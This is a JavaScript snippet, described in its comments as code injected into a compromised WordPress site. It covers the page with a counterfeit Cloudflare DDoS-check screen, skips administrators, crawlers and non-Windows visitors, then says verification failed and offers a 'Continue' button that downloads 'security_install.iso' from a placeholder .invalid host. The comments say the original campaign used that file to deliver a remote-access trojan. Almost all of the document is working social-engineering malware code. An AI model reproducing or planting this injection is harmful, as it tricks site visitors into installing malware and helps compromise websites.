// Injected into a compromised WordPress site's JavaScript: the page is covered by a copy of a
// CDN's "checking your browser before accessing" DDoS-protection screen, with the site's
// name and a ray ID; after a short "check" the visitor is asked to click a button, which
// downloads "security_install.iso" (a remote-access trojan in the original campaign; here
// an .invalid host), presented as the protection software needed to continue.
(function () {
  if (document.cookie.indexOf("cf_chk=") !== -1) return;
  if (/wp-admin|wp-login/.test(location.pathname) || document.getElementById("wpadminbar")) return;
  if (/bot|crawl|spider|slurp|bingpreview/i.test(navigator.userAgent) || !/Windows NT/.test(navigator.userAgent)) return;
  var host = location.hostname, ray = Math.random().toString(16).slice(2, 18);
  var o = document.createElement("div");
  o.id = "cf-wrapper";
  o.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:#fff;font-family:system-ui,-apple-system,Segoe UI,Arial,sans-serif;color:#404040;text-align:center;padding-top:12vh";
  o.innerHTML = '<h1 style="font-weight:400">' + host + '</h1>' +
    '<h2 id="cf-msg" style="font-weight:400;font-size:1.4em">Checking your browser before accessing ' + host + '.</h2>' +
    '<p id="cf-sub">This process is automatic. Your browser will redirect to your requested content shortly.</p>' +
    '<p>Please allow up to 5 seconds&hellip;</p>' +
    '<div style="margin-top:8vh;font-size:12px">DDoS protection by Cloudflare<br>Ray ID: ' + ray + '</div>';
  document.documentElement.style.overflow = "hidden";
  (document.body || document.documentElement).appendChild(o);
  setTimeout(function () {
    document.getElementById("cf-msg").textContent = "Your browser could not be verified.";
    document.getElementById("cf-sub").innerHTML = "To access this site, install the DDoS protection check and run it once.<br><br>";
    var b = document.createElement("a");
    b.textContent = "Continue";
    b.href = "https://dl.ddos-guard-check.invalid/security_install.iso";
    b.setAttribute("download", "security_install.iso");
    b.style.cssText = "display:inline-block;background:#0051c3;color:#fff;padding:10px 28px;border-radius:4px;text-decoration:none";
    b.onclick = function () {
      var d = new Date(Date.now() + 7 * 864e5);
      document.cookie = "cf_chk=1; expires=" + d.toUTCString() + "; path=/";
    };
    document.getElementById("cf-sub").appendChild(b);
  }, 5000);
})();
